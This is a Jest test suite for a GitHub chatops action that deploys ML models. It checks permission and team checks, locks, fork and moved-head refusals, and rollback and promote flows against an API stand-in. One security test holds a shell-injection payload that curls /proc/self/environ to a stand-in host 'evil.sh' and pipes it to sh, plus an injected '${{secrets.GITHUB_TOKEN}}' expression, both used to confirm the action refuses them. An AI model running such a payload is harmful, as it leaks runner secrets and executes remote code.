/**
 * Runner-protocol tests: the built dist/chatops/index.js, run as the runner runs it, with real issue_comment
 * payloads (@octokit/webhooks-examples), against the GitHub API stand-in, whose world keeps the deployments,
 * their statuses and the lock branch the engine writes (state: github, the default, as in the deploy action).
 * Every API call is asserted, in order. Every refusal says why, in the outputs, the summary and the reply, and
 * shows that nothing was deployed: no call to the Deployments, git or contents APIs, and the deployments, the
 * refs and the served model exactly as they were.
 */
import { afterAll, afterEach, beforeAll, describe, expect, it } from '@jest/globals';
import { readdir, readFile, mkdtemp, rm, writeFile, mkdir } from 'node:fs/promises';
import { existsSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { loadConfig } from '../../src/core/config.js';
import { deploy } from '../../src/deploy/engine.js';
import { GitHubDeploymentStore } from '../../src/github/deployments.js';
import { acquireLock } from '../../src/github/locks.js';
import { standInClient } from '../github/stand-in-client.js';
import { pullRequestCommentEvent, webhookEvent, type WebhookEvent } from '../support/events.js';
import { GitHubStandIn } from '../support/github-stand-in.js';
import { runAction, type RunActionResult } from '../support/run-action.js';
// A deploy validates what it ships: the artifacts are real ONNX models.
import { onnxModel } from '../deploy/helpers.js';

const HEAD = 'c0ffee'.padEnd(40, '0');
const MOVED = 'bad0'.padEnd(40, '1');
const BASE = 'ba5e'.padEnd(40, '2');
const PR = 7;
/** The repository of the webhook examples, so GITHUB_REPOSITORY and the payload agree. */
const OWNER = 'Codertocat';
const REPO = { owner: OWNER, repo: 'Hello-World' };
const RUN_URL = 'https://github.com/Codertocat/Hello-World/actions/runs/4242424242';
const PRODUCTION_URL = 'https://iris.example.com/v2/models/iris';

const CONFIG = `version: 1
models:
  iris:
    path: models/iris.onnx
environments:
  staging:
    provider: { type: local, root: .modelship/repository/staging }
    strategy: { type: direct }
  production:
    requires: staging
    url: ${PRODUCTION_URL}
    provider: { type: local, root: .modelship/repository/production }
    strategy: { type: blue-green }
chatops:
  environments:
    production:
      permissions: [admin]
      requireMerged: true
      requiredChecks: [test]
      teams: [release-managers]
`;

let gh: GitHubStandIn;
let workspace: string;

beforeAll(async () => {
  gh = await GitHubStandIn.start();
});
afterAll(async () => {
  await gh.close();
});
afterEach(async () => {
  gh.verifyAndReset();
  if (workspace) await rm(workspace, { recursive: true, force: true });
});

async function project(): Promise<string> {
  workspace = await mkdtemp(path.join(os.tmpdir(), 'ms-chatops-'));
  await mkdir(path.join(workspace, 'models'));
  await writeFile(path.join(workspace, 'models/iris.onnx'), await onnxModel('iris, as configured'));
  for (const v of ['1.0.0', '1.1.0']) await writeFile(path.join(workspace, `models/iris-${v}.onnx`), await onnxModel(`iris ${v}`));
  await writeFile(path.join(workspace, 'modelship.yml'), CONFIG);
  return workspace;
}

/** Deploys versions to staging in process, through the same Deployments store, as an earlier workflow run would have. */
async function staged(...versions: string[]): Promise<void> {
  const loaded = await loadConfig(path.join(workspace, 'modelship.yml'));
  const store = new GitHubDeploymentStore({ client: standInClient(gh), repo: REPO, ref: BASE });
  for (const version of versions) {
    const r = await deploy(loaded, { environment: 'staging', version, artifact: `models/iris-${version}.onnx`, actor: 'ci' }, { store });
    expect(r.outcome).toBe('deployed');
  }
  gh.forgetCalls();
}

function seed(options: { login?: string; level?: 'admin' | 'maintain' | 'write' | 'read' | 'none'; fork?: boolean; merged?: boolean } = {}) {
  gh.world.setPermission(options.login ?? 'octocat', options.level ?? 'write');
  gh.world.addPullRequest(PR, {
    headSha: HEAD,
    baseRef: 'main',
    ...(options.fork ? { headRepoFullName: 'mallory/Hello-World' } : {}),
    ...(options.merged ? { overrides: { merged: true, state: 'closed' } } : {}),
  });
}

/** What production's rules ask for: an admin in release-managers, a merged pull request whose `test` check passed. */
function productionReady(): void {
  seed({ level: 'admin', merged: true });
  gh.world.setTeamMember(OWNER, 'release-managers', 'octocat');
  gh.on('GET /repos/{owner}/{repo}/commits/{ref}/check-runs', {
    body: { total_count: 1, check_runs: [gh.example('GET /repos/{owner}/{repo}/check-runs/{check_run_id}', { id: 1, name: 'test', status: 'completed', conclusion: 'success', head_sha: HEAD })] },
  });
}

async function run(event: WebhookEvent, inputs: Record<string, string> = {}, env: Record<string, string> = {}): Promise<RunActionResult> {
  return runAction('chatops', { event, standIn: gh, cwd: workspace, inputs, env: { MODELSHIP_GITHUB_RETRY_BASE_MS: '1', ...env } });
}

const COMMENT_ID = 492700400;
const comment = (body: string, extra: { login?: string; action?: 'created' | 'edited' | 'deleted'; id?: number } = {}) =>
  pullRequestCommentEvent({ body, pullNumber: PR, login: extra.login ?? 'octocat', action: extra.action, ...(extra.id ? { overrides: { comment: { id: extra.id } } } : {}) });

/** Each call as `METHOD route`, in order. */
const calls = () => gh.calls().map((c) => `${c.method} ${c.route ?? c.path}`);
const reactions = (commentId = COMMENT_ID) => gh.world.reactions.filter((r) => r.commentId === commentId).map((r) => r.content);
const replies = () => gh.world.comments.filter((c) => c.body.startsWith('<!-- modelship:chatops-'));
/** The reply as written by each call that wrote it (create, then every update GitHub accepted), by its headline. */
const replyPhases = () => gh.calls().filter((c) => [CREATE, UPDATE].includes(`${c.method} ${c.route}`) && !c.fault).map((c) => /^### (.+)$/m.exec((c.body as { body: string }).body)![1]);
const lastReply = () => {
  expect(replies()).toHaveLength(1);
  return replies()[0].body;
};

const REACT = 'POST /repos/{owner}/{repo}/issues/comments/{comment_id}/reactions';
const LIST = 'GET /repos/{owner}/{repo}/issues/{issue_number}/comments';
const CREATE = 'POST /repos/{owner}/{repo}/issues/{issue_number}/comments';
const UPDATE = 'PATCH /repos/{owner}/{repo}/issues/comments/{comment_id}';
const PERMISSION = 'GET /repos/{owner}/{repo}/collaborators/{username}/permission';
const TEAM = 'GET /orgs/{org}/teams/{team_slug}/memberships/{username}';
const PULL = 'GET /repos/{owner}/{repo}/pulls/{pull_number}';
const CHECKS = 'GET /repos/{owner}/{repo}/commits/{ref}/check-runs';
const DEPLOYMENTS = 'GET /repos/{owner}/{repo}/deployments';
const STATUSES = 'GET /repos/{owner}/{repo}/deployments/{deployment_id}/statuses';
const NEW_DEPLOYMENT = 'POST /repos/{owner}/{repo}/deployments';
const NEW_STATUS = 'POST /repos/{owner}/{repo}/deployments/{deployment_id}/statuses';
const LOCK_FILE = 'GET /repos/{owner}/{repo}/contents/{path}';
/** Taking the lock: lock.json as a blob, a tree, a parentless commit, and the branch created atomically. */
const LOCK = ['POST /repos/{owner}/{repo}/git/blobs', 'POST /repos/{owner}/{repo}/git/trees', 'POST /repos/{owner}/{repo}/git/commits', 'POST /repos/{owner}/{repo}/git/refs'];
/** Releasing it: read lock.json (is it ours?), delete the branch. */
const UNLOCK = [LOCK_FILE, 'DELETE /repos/{owner}/{repo}/git/refs/{ref}'];
/** Taken: eyes, then the reply created. */
const TAKEN = [REACT, LIST, CREATE];

/** Everything a deployment could change: the Deployments API's records, the refs, and what the provider serves. */
async function deployedState(): Promise<unknown> {
  return { github: gh.world.deploymentSnapshot(), served: await files(path.join(workspace, '.modelship')) };
}

async function files(dir: string): Promise<Record<string, string>> {
  const out: Record<string, string> = {};
  if (!existsSync(dir)) return out;
  for (const entry of await readdir(dir, { withFileTypes: true, recursive: true })) {
    if (entry.isFile()) {
      const file = path.join(entry.parentPath, entry.name);
      out[path.relative(dir, file)] = await readFile(file, 'utf8');
    }
  }
  return out;
}

/** The refusal's proof that nothing was deployed. */
async function expectNothingDeployed(r: RunActionResult, before: unknown): Promise<void> {
  expect(gh.calls().filter((c) => /\/deployments|\/git\/|\/contents\//.test(c.route ?? c.path))).toEqual([]);
  expect(await deployedState()).toEqual(before);
  expect(r.outputs.sha).toBe('');
  expect(r.exitCode).toBe(0);
}

/** The refusal says why: in the outputs, the job summary and (when there is one) the reply. */
function expectSaysWhy(r: RunActionResult, code: string, why: RegExp, reply = true): void {
  expect(r.outputs).toMatchObject({ decision: 'refused', 'reason-code': code });
  expect(r.outputs.reason).toMatch(why);
  expect(r.summary).toMatch(/Modelship chatops: refused/);
  expect(r.summary).toMatch(why);
  expect(r.summary).toContain(`\`${code}\``);
  if (reply) {
    expect(lastReply()).toMatch(/### 👎 Refused/);
    expect(lastReply()).toMatch(why);
    expect(lastReply()).toContain(`[workflow run](${RUN_URL})`);
  }
}

describe('chatops action: commands that run through the deploy engine (state: github)', () => {
  it('/lock then /unlock: the lock is the engine\'s lock branch; eyes, one reply updated in place, rocket', async () => {
    await project();
    seed();
    const lock = await run(comment('/lock staging model retraining'));
    expect(lock.exitCode).toBe(0);
    expect(lock.outputs).toMatchObject({ decision: 'done', 'reason-code': 'ok', command: 'lock', env: 'staging', sha: HEAD, actor: 'octocat', 'pull-request': String(PR) });
    expect(calls()).toEqual([...TAKEN, PERMISSION, PULL, PULL, LOCK_FILE, UPDATE, ...LOCK, UPDATE, REACT]);
    expect(gh.calls(REACT).map((c) => [c.params.comment_id, (c.body as { content: string }).content])).toEqual([[String(COMMENT_ID), 'eyes'], [String(COMMENT_ID), 'rocket']]);
    expect(replyPhases()).toEqual(['👀 Taken: checking permissions and rules', '⏳ Running', '🚀 Done']);
    expect(new Set(gh.calls(UPDATE).map((c) => c.params.comment_id))).toEqual(new Set([String(replies()[0].id)]));
    expect(lastReply()).toContain(`<!-- modelship:chatops-${COMMENT_ID} -->`);
    expect(lastReply()).toMatch(/staging locked by octocat/);
    const ref = gh.calls(LOCK[3])[0].body as { ref: string; sha: string };
    expect(ref.ref).toBe('refs/heads/modelship-lock/staging');
    const held = JSON.parse(gh.world.blobs.get(gh.world.trees.get(gh.world.commits.get(gh.world.refs.get(ref.ref)!)!.tree)!.get('lock.json')!)!.toString('utf8'));
    expect(held).toMatchObject({ environment: 'staging', owner: 'octocat', reason: 'model retraining', pid: -1 });
    expect(gh.calls().filter((c) => c.path.includes('/deployments'))).toEqual([]);
    expect(existsSync(path.join(workspace, '.modelship'))).toBe(false);

    gh.forgetCalls();
    const unlock = await run(comment('/unlock staging', { id: COMMENT_ID + 1 }));
    expect(unlock.outputs).toMatchObject({ decision: 'done', command: 'unlock', env: 'staging' });
    expect(calls()).toEqual([...TAKEN, PERMISSION, PULL, PULL, UPDATE, LOCK_FILE, ...UNLOCK, UPDATE, REACT]);
    expect(gh.world.refs.size).toBe(0);
    expect(reactions(COMMENT_ID + 1)).toEqual(['eyes', 'rocket']);
    expect(replies()).toHaveLength(2);
  });

  it('/rollback staging: a new deployment of the previous version, its statuses, the reply updated as it runs', async () => {
    await project();
    await staged('1.0.0', '1.1.0');
    seed();
    const r = await run(comment('/rollback staging'));
    expect(r.exitCode).toBe(0);
    expect(r.outputs).toMatchObject({ decision: 'done', command: 'rollback', env: 'staging', version: '1.0.0', sha: HEAD });
    expect(calls()).toEqual([
      ...TAKEN, PERMISSION, PULL, PULL, LOCK_FILE, UPDATE,
      // rollback: staging's history (two deployments), then the rollout: is it locked? lock, history again
      // (before the lock, an interrupted rollout past its deadline would be reverted: the history is read for it)
      DEPLOYMENTS, STATUSES, STATUSES, LOCK_FILE, DEPLOYMENTS, STATUSES, STATUSES, ...LOCK, DEPLOYMENTS, STATUSES, STATUSES,
      // the deployment recorded (in_progress), the reply links it; each step journaled, the reply shows it
      NEW_DEPLOYMENT, NEW_STATUS, UPDATE,
      NEW_STATUS, UPDATE, NEW_STATUS, UPDATE, NEW_STATUS, UPDATE, NEW_STATUS, UPDATE,
      // success, the lock released, the final reply and the rocket
      NEW_STATUS, ...UNLOCK, UPDATE, REACT,
    ]);
    const created = gh.calls(NEW_DEPLOYMENT)[0].body as Record<string, unknown>;
    expect(created).toMatchObject({ ref: HEAD, environment: 'staging', task: 'deploy:modelship', auto_merge: false, required_contexts: [], production_environment: false, payload: { model: 'iris', version: '1.0.0', strategy: 'rollback', previousVersion: '1.1.0' } });
    const id = gh.world.deployments[0].id;
    expect(gh.calls(NEW_STATUS).map((c) => (c.body as { state: string; description: string }).description)).toEqual(['starting', 'step: prepare', 'step: verify', 'step: shift-traffic', 'step: finalize', expect.stringMatching(/^1\.0\.0 live/)]);
    expect(gh.calls(NEW_STATUS).every((c) => c.params.deployment_id === String(id) && (c.body as { log_url: string }).log_url === RUN_URL)).toBe(true);
    expect(gh.world.latestDeploymentStatus(id)?.state).toBe('success');
    expect(reactions()).toEqual(['eyes', 'rocket']);
    expect(replyPhases()).toEqual(['👀 Taken: checking permissions and rules', '⏳ Running', '⏳ Running', '⏳ Running', '⏳ Running', '⏳ Running', '⏳ Running', '🚀 Done']);
    const deploymentLink = '[deployment](https://github.com/Codertocat/Hello-World/deployments/staging)';
    const bodies = gh.calls(UPDATE).map((c) => (c.body as { body: string }).body);
    expect(bodies[0]).not.toContain(deploymentLink);
    expect(bodies[1]).toContain(`[workflow run](${RUN_URL}) · ${deploymentLink}`);
    expect(bodies[2]).toMatch(/\| prepare \| ✅ \|/);
    expect(bodies[2]).not.toMatch(/\| verify \|/);
    expect(lastReply()).toMatch(/staging rolled back to iris 1\.0\.0 \(was 1\.1\.0\)/);
    expect(lastReply()).toContain(deploymentLink);
    expect(r.summary).toMatch(/\| finalize \| ok \|/);
  });

  it('/promote to production: admin, team member, merged, checks green; links to the run, the deployment and the environment', async () => {
    await project();
    await staged('1.0.0');
    productionReady();
    const r = await run(comment('/promote iris to production'));
    expect(r.exitCode).toBe(0);
    expect(r.outputs).toMatchObject({ decision: 'done', command: 'promote', model: 'iris', env: 'production', version: '1.0.0', sha: HEAD });
    expect(calls()).toEqual([
      ...TAKEN, PERMISSION, TEAM, PULL, CHECKS, PULL, LOCK_FILE, UPDATE,
      DEPLOYMENTS, STATUSES, LOCK_FILE, DEPLOYMENTS, ...LOCK, DEPLOYMENTS,
      NEW_DEPLOYMENT, NEW_STATUS, UPDATE,
      // blue-green: five steps, each journaled when it starts and shown when it ends; before the switch, the
      // rollout's requests (`/rollout pause|abort`) are read from its statuses
      NEW_STATUS, UPDATE, NEW_STATUS, UPDATE, STATUSES, NEW_STATUS, UPDATE, NEW_STATUS, UPDATE, NEW_STATUS, UPDATE,
      NEW_STATUS, ...UNLOCK, UPDATE, REACT,
    ]);
    expect(gh.calls(NEW_STATUS).map((c) => (c.body as { description: string }).description)).toEqual(['starting', 'step: prepare', 'step: verify', 'step: switch', 'step: verify-after-switch', 'step: finalize', expect.stringMatching(/^1\.0\.0 live/)]);
    expect(gh.calls(TEAM)[0].params).toMatchObject({ org: OWNER, team_slug: 'release-managers', username: 'octocat' });
    expect(gh.calls(NEW_DEPLOYMENT)[0].body).toMatchObject({ ref: HEAD, environment: 'production', production_environment: true, payload: { version: '1.0.0', strategy: 'blue-green' } });
    expect(gh.calls(NEW_STATUS).at(-1)!.body).toMatchObject({ state: 'success', environment_url: PRODUCTION_URL });
    expect(lastReply()).toMatch(/@.?octocat has admin permission[\s\S]*@.?octocat is an active member of team release-managers[\s\S]*#7 is merged[\s\S]*required checks green: test[\s\S]*head still at c0ffee0 just before acting/);
    expect(lastReply()).toContain(`[workflow run](${RUN_URL}) · [deployment](https://github.com/Codertocat/Hello-World/deployments/production) · [environment](${PRODUCTION_URL})`);
    expect(reactions()).toEqual(['eyes', 'rocket']);
  });

  it('/deploy is approved for the next job with the pinned SHA; the action itself deploys nothing', async () => {
    await project();
    seed();
    const before = await deployedState();
    const r = await run(comment('/deploy iris@1.2.0 to staging --dry-run'));
    expect(r.outputs).toMatchObject({ decision: 'approved', command: 'deploy', model: 'iris', version: '1.2.0', env: 'staging', 'dry-run': 'true', sha: HEAD });
    expect(calls()).toEqual([...TAKEN, PERMISSION, PULL, PULL, UPDATE]);
    expect(reactions()).toEqual(['eyes']);
    expect(lastReply()).toMatch(/Approved/);
    expect(await deployedState()).toEqual(before);
  });

  it('--dry-run (here the dry-run input) authorises and plans with reads only', async () => {
    await project();
    await staged('1.0.0');
    productionReady();
    const before = await deployedState();
    const r = await run(comment('/promote iris to production'), { 'dry-run': 'true' });
    expect(r.outputs).toMatchObject({ decision: 'done', 'dry-run': 'true' });
    expect(calls()).toEqual([...TAKEN, PERMISSION, TEAM, PULL, CHECKS, PULL, UPDATE, DEPLOYMENTS, STATUSES, LOCK_FILE, DEPLOYMENTS, UPDATE, REACT]);
    expect(await deployedState()).toEqual(before);
    expect(lastReply()).toMatch(/Done \(dry run\)[\s\S]*\| prepare \| 📝 \|/);
  });

  it('/status reads the Deployments state and the lock branch', async () => {
    await project();
    await staged('1.0.0', '1.1.0');
    seed();
    const r = await run(comment('/status staging'));
    expect(r.outputs).toMatchObject({ decision: 'done', command: 'status', env: 'staging' });
    // status first looks for an interrupted rollout past its deadline (it would revert it), then reads the state
    expect(calls()).toEqual([...TAKEN, PERMISSION, PULL, UPDATE, DEPLOYMENTS, STATUSES, STATUSES, LOCK_FILE, DEPLOYMENTS, STATUSES, STATUSES, UPDATE, REACT]);
    expect(lastReply()).toContain('| staging | iris | 1.1.0 | direct | 1.0.0 |  |');
  });

  it('an engine refusal fails the step, says why, and leaves production as it was', async () => {
    await project();
    productionReady();
    const before = await deployedState();
    const r = await run(comment('/promote iris to production'));
    expect(r.exitCode).not.toBe(0);
    expect(r.outputs).toMatchObject({ decision: 'failed', 'reason-code': 'execution_failed' });
    expect(r.outputs.reason).toMatch(/nothing is live in staging/);
    expect(calls()).toEqual([...TAKEN, PERMISSION, TEAM, PULL, CHECKS, PULL, LOCK_FILE, UPDATE, DEPLOYMENTS, UPDATE, REACT]);
    expect(reactions()).toEqual(['eyes', '-1']);
    expect(replyPhases().at(-1)).toBe('👎 Failed');
    expect(lastReply()).toMatch(/nothing is live in staging/);
    expect(await deployedState()).toEqual(before);
  });

  it('state: local uses the state file, as the deploy action does, and no Deployments or git call', async () => {
    await project();
    seed();
    const r = await run(comment('/lock staging'), { state: 'local' });
    expect(r.outputs).toMatchObject({ decision: 'done', command: 'lock' });
    expect(calls()).toEqual([...TAKEN, PERMISSION, PULL, PULL, UPDATE, UPDATE, REACT]);
    const lockFile = (await readdir(path.join(workspace, '.modelship/deployments'))).find((f) => f.includes('staging'));
    expect(lockFile).toBeDefined();
  });

  it('a bad state input fails the step before any API call', async () => {
    await project();
    seed();
    const r = await run(comment('/lock staging'), { state: 'gitlab' });
    expect(r.exitCode).toBe(1);
    expect(r.annotations.map((a) => a.message).join('\n')).toMatch(/input "state" is "gitlab", expected one of github, local/);
    expect(calls()).toEqual([]);
  });

  it('feedback that fails is a warning: the command still runs, and a reply gone missing is found again', async () => {
    await project();
    seed();
    gh.injectFault(REACT, { kind: 'status', status: 403, message: 'Resource not accessible by integration', times: 2 });
    gh.injectFault(UPDATE, { kind: 'status', status: 404, message: 'Not Found', times: 1 });
    const r = await run(comment('/lock staging'));
    expect(r.exitCode).toBe(0);
    expect(r.outputs).toMatchObject({ decision: 'done', command: 'lock' });
    // The first update of the reply answers 404: it is looked up again and updated; the rest go by id.
    expect(calls()).toEqual([...TAKEN, PERMISSION, PULL, PULL, LOCK_FILE, UPDATE, LIST, UPDATE, ...LOCK, UPDATE, REACT]);
    expect(gh.calls(REACT).map((c) => c.status)).toEqual([403, 403]);
    expect(r.annotations.filter((a) => a.level === 'warning').map((a) => a.message)).toEqual([
      expect.stringMatching(/could not add the eyes reaction: .*403/),
      expect.stringMatching(/could not add the rocket reaction: .*403/),
    ]);
    expect(replyPhases()).toEqual(['👀 Taken: checking permissions and rules', '⏳ Running', '🚀 Done']);
    expect(replies()).toHaveLength(1);
  });

  it('an ordinary comment makes no API call at all', async () => {
    await project();
    const r = await run(comment('Thanks, looks good'));
    expect(r.outputs.decision).toBe('ignored');
    expect(calls()).toEqual([]);
  });
});

describe('chatops action: security cases (each refused, says why, nothing deployed)', () => {
  /** Staging runs 1.1.0 after 1.0.0: `/rollback staging` would deploy 1.0.0 if it ran (see the test above). */
  async function scene(options: Parameters<typeof seed>[0] = {}): Promise<unknown> {
    await project();
    await staged('1.0.0', '1.1.0');
    seed(options);
    return deployedState();
  }

  it('a commenter without write permission', async () => {
    const before = await scene({ login: 'stranger', level: 'read' });
    const r = await run(comment('/rollback staging', { login: 'stranger' }));
    expectSaysWhy(r, 'permission_denied', /@.?stranger has .read. permission. write, maintain, admin is needed/);
    expect(calls()).toEqual([...TAKEN, PERMISSION, UPDATE, REACT]);
    expect(reactions()).toEqual(['eyes', '-1']);
    await expectNothingDeployed(r, before);
  });

  it('a permission API that fails denies', async () => {
    const before = await scene();
    gh.injectFault(PERMISSION, { kind: 'status', status: 502, times: 10 });
    const r = await run(comment('/rollback staging'));
    expectSaysWhy(r, 'permission_unavailable', /could not read @.?octocat.s permission .*502.* a permission that cannot be verified is denied/);
    // One call and three retries, then the refusal; the pull request is never read.
    expect(calls()).toEqual([...TAKEN, PERMISSION, PERMISSION, PERMISSION, PERMISSION, UPDATE, REACT]);
    expect(reactions()).toEqual(['eyes', '-1']);
    // The reason names the repository asked, in the output (where braces are dropped) as in the reply.
    expect(r.outputs.reason).toContain('GET /repos/Codertocat/Hello-World/collaborators/octocat/permission with 502');
    expect(r.outputs.reason).not.toMatch(/\?owner\?|\?repo\?/);
    expect(lastReply()).toContain('/repos/Codertocat/Hello-World/collaborators/octocat/permission');
    await expectNothingDeployed(r, before);
  });

  it('a custom role (role_name) not listed in permissions, although it extends write: refused, stating the role read', async () => {
    const before = await scene();
    gh.on(PERMISSION, (request, standIn) => ({
      body: { permission: 'write', role_name: 'model-reviewer', user: { ...(standIn.example<Record<string, unknown>>(PERMISSION).user as object), login: request.params.username, role_name: 'model-reviewer' } },
    }));
    const r = await run(comment('/rollback staging'));
    expectSaysWhy(r, 'permission_denied', /@.?octocat has the custom role .model-reviewer. \(GitHub.s role_name, based on write\). write, maintain, admin is needed/);
    expect(calls()).toEqual([...TAKEN, PERMISSION, UPDATE, REACT]);
    await expectNothingDeployed(r, before);
  });

  it('a hung GitHub API: one budget bounds the whole command, not 4 attempts per call', async () => {
    const before = await scene();
    gh.injectFault('*', { kind: 'hang', times: 1000 });
    // 100 ms per attempt, 250 ms for the command: every attempt but the last spends a full 100 ms of it, so at
    // most ceil(250 / 100) = 3 requests reach GitHub; without the budget, each call makes up to 4 attempts.
    const r = await run(comment('/rollback staging'), {}, { MODELSHIP_GITHUB_TIMEOUT_MS: '100', MODELSHIP_GITHUB_BUDGET_MS: '250' });
    expect(r.exitCode).toBe(0);
    expect(r.outputs).toMatchObject({ decision: 'refused', 'reason-code': 'permission_unavailable', sha: '' });
    expect(r.outputs.reason).toMatch(/GitHub did not answer/);
    expect(gh.calls().length).toBeGreaterThanOrEqual(1);
    expect(gh.calls().length).toBeLessThanOrEqual(3);
    expect(r.annotations.filter((a) => a.level === 'warning').map((a) => a.message).join('\n')).toMatch(/not sent, as GitHub already left requests unanswered for the 250 ms this run allows in total/);
    expect(await deployedState()).toEqual(before);
  });

  describe('a locked environment (the lock branch held by @monalisa)', () => {
    async function lockedBy(owner: string, environment = 'staging'): Promise<void> {
      await acquireLock(standInClient(gh), REPO, { environment, owner, pid: -1, host: 'runner', reason: 'model freeze', createdAt: '2026-01-01T00:00:00.000Z' });
      gh.forgetCalls();
    }

    it('/deploy: refused by this step, naming the holder, never approved for the deploy job', async () => {
      await scene();
      await lockedBy('monalisa');
      const before = await deployedState();
      const r = await run(comment('/deploy iris@1.2.0 to staging'));
      expectSaysWhy(r, 'locked', /staging is locked by monalisa since 2026-01-01T00:00:00.000Z: model freeze. .deploy is refused \(monalisa can deploy through the lock or .unlock staging\)/);
      expect(calls()).toEqual([...TAKEN, PERMISSION, PULL, PULL, LOCK_FILE, UPDATE, REACT]);
      expect(replyPhases()).not.toContain('✅ Approved: the workflow runs it on the pinned commit');
      expect(r.outputs.sha).toBe('');
      expect(gh.world.refs.size).toBe(1);
      gh.forgetCalls();
      await expectNothingDeployed(r, before);
    });

    it('/promote: a refusal (a successful step), not a failed step', async () => {
      await project();
      await staged('1.0.0');
      productionReady();
      await lockedBy('monalisa', 'production');
      const r = await run(comment('/promote iris to production'));
      expect(r.exitCode).toBe(0);
      expectSaysWhy(r, 'locked', /production is locked by monalisa/);
      expect(calls()).toEqual([...TAKEN, PERMISSION, TEAM, PULL, CHECKS, PULL, LOCK_FILE, UPDATE, REACT]);
      expect(gh.calls(NEW_DEPLOYMENT)).toEqual([]);
    });

    it('the holder of the lock deploys through it', async () => {
      await project();
      await staged('1.0.0', '1.1.0');
      seed();
      await lockedBy('octocat');
      const r = await run(comment('/rollback staging'));
      expect(r.outputs).toMatchObject({ decision: 'done', command: 'rollback', version: '1.0.0' });
      expect(lastReply()).toMatch(/staging is not locked by anyone else/);
    });
  });

  it('a fork pull request', async () => {
    const before = await scene({ fork: true });
    const r = await run(comment('/rollback staging'));
    expectSaysWhy(r, 'fork', /#7 comes from a fork \(mallory\/Hello-World\)/);
    expect(calls()).toEqual([...TAKEN, PERMISSION, PULL, UPDATE, REACT]);
    await expectNothingDeployed(r, before);
  });

  it('a comment on an issue, not a pull request (real payload)', async () => {
    const before = await scene();
    const event = webhookEvent('issue_comment', { action: 'created', overrides: { comment: { body: '/rollback staging' } } });
    expect(event.payload.issue.pull_request).toBeUndefined();
    const r = await run(event);
    expectSaysWhy(r, 'not_pull_request', /#1 is an issue, not a pull request/);
    // No permission or pull request lookup: the reply and the thumbs down only.
    expect(calls()).toEqual([LIST, CREATE, REACT]);
    expect(reactions()).toEqual(['-1']);
    await expectNothingDeployed(r, before);
  });

  it.each(['edited', 'deleted'] as const)('an %s comment (real payload): refused without a single API call', async (action) => {
    const before = await scene();
    const event = comment('/rollback staging', { action });
    expect(event.payload.action).toBe(action);
    const r = await run(event);
    expectSaysWhy(r, 'not_created', /only new comments run commands/, false);
    expect(calls()).toEqual([]);
    await expectNothingDeployed(r, before);
  });

  it('a head that moved after the command was read (the pinned SHA re-checked just before acting)', async () => {
    const before = await scene();
    let reads = 0;
    gh.on(`GET /repos/{owner}/{repo}/pulls/${PR}`, () => {
      reads += 1;
      const pr = structuredClone(gh.world.pullRequests.get(PR)!) as { head: { sha: string } };
      if (reads > 1) pr.head.sha = MOVED;
      return { status: 200, body: pr };
    });
    const r = await run(comment('/rollback staging'));
    expectSaysWhy(r, 'ref_changed', /the head of #7 moved from c0ffee0 to bad0111 after the command was read. comment again/);
    expect(calls()).toEqual([...TAKEN, PERMISSION, PULL, PULL, UPDATE, REACT]);
    expect(reactions()).toEqual(['eyes', '-1']);
    await expectNothingDeployed(r, before);
  });

  describe('shell metacharacters and injected ${{ }} in every argument', () => {
    const EXPRESSION = '${{secrets.GITHUB_TOKEN}}';
    const SHELL = '$(curl${IFS}-d@/proc/self/environ${IFS}evil.sh|sh);`id`&&x>y';
    // Every argument position of every command (and the keyword and option slots), with the value in `X`.
    const POSITIONS = [
      '/deploy X@1.0.0 to staging', '/deploy iris@X to staging', '/deploy iris@1.0.0 X staging', '/deploy iris@1.0.0 to X',
      '/promote X to production', '/promote iris X production', '/promote iris to X',
      '/rollback X', '/rollback staging X 1.0.0', '/rollback staging to X',
      '/status X', '/lock X', '/lock staging X', '/lock staging retraining X', '/unlock X', '/help X', '/status staging --X',
    ];

    it.each([
      ['${{ }}', EXPRESSION],
      ['shell metacharacters', SHELL],
    ])('%s: each refused as a parse error, never echoed raw, nothing deployed', async (_kind, payload) => {
      const before = await scene();
      for (const template of POSITIONS) {
        const body = template.replace('X', payload);
        gh.world.comments = [];
        gh.world.reactions = [];
        gh.forgetCalls();
        const r = await run(comment(body));
        expect({ body, decision: r.outputs.decision, code: r.outputs['reason-code'] }).toEqual({ body, decision: 'refused', code: 'parse_error' });
        for (const name of ['command', 'model', 'version', 'env', 'sha']) expect(r.outputs[name]).toBe('');
        expect(r.outputs.reason).not.toMatch(/\$\{\{|\$\(|`|;|&&|[<>"|]/);
        expect(r.summary).not.toMatch(/\$\{\{|\$\(|`id`/);
        // The reply names what is wrong, with the argument neutralised (no expression, no substitution, no HTML).
        expect(lastReply()).toMatch(/### 👎 Refused/);
        expect(lastReply().slice(lastReply().indexOf('\n'))).not.toMatch(/\$\{\{|\$\(|`id`|<|>y/);
        // A malformed command gets one reply, written once the commenter's permission is known.
        expect({ body, calls: calls() }).toEqual({ body, calls: [REACT, PERMISSION, LIST, CREATE, REACT] });
        expect(reactions()).toEqual(['eyes', '-1']);
        await expectNothingDeployed(r, before);
      }
    }, 120_000);
  });

  it('production without team membership: refused, naming the team', async () => {
    const before = await scene({ level: 'admin', merged: true });
    gh.world.setTeamMember(OWNER, 'release-managers', 'octocat', 'pending');
    const r = await run(comment('/rollback production'));
    expectSaysWhy(r, 'user_not_allowed', /production accepts commands only from members of team release-managers. @.?octocat is not one of them \(release-managers: invitation not accepted yet\)/);
    expect(calls()).toEqual([...TAKEN, PERMISSION, TEAM, UPDATE, REACT]);
    await expectNothingDeployed(r, before);
  });

  it('a team lookup that fails denies; org-token is the token it is made with, and it is masked', async () => {
    const before = await scene({ level: 'admin', merged: true });
    gh.world.setTeamMember(OWNER, 'release-managers', 'octocat');
    const orgToken = 'ghs_OrgTokenNotKnownToTheStandIn000000001';
    const r = await run(comment('/rollback production'), { 'org-token': orgToken });
    expectSaysWhy(r, 'membership_unavailable', /could not read @.?octocat.s membership of team release-managers \(GitHub answered .* 401[^)]*\), and a membership that cannot be verified is denied/);
    expect(calls()).toEqual([...TAKEN, PERMISSION, TEAM, UPDATE, REACT]);
    // Only the team lookup used the org token (the stand-in knows only the github-token).
    expect(gh.calls().map((c) => c.authenticated)).toEqual([true, true, true, true, false, true, true]);
    expect(r.masks).toContain(orgToken);
    await expectNothingDeployed(r, before);
  });
});
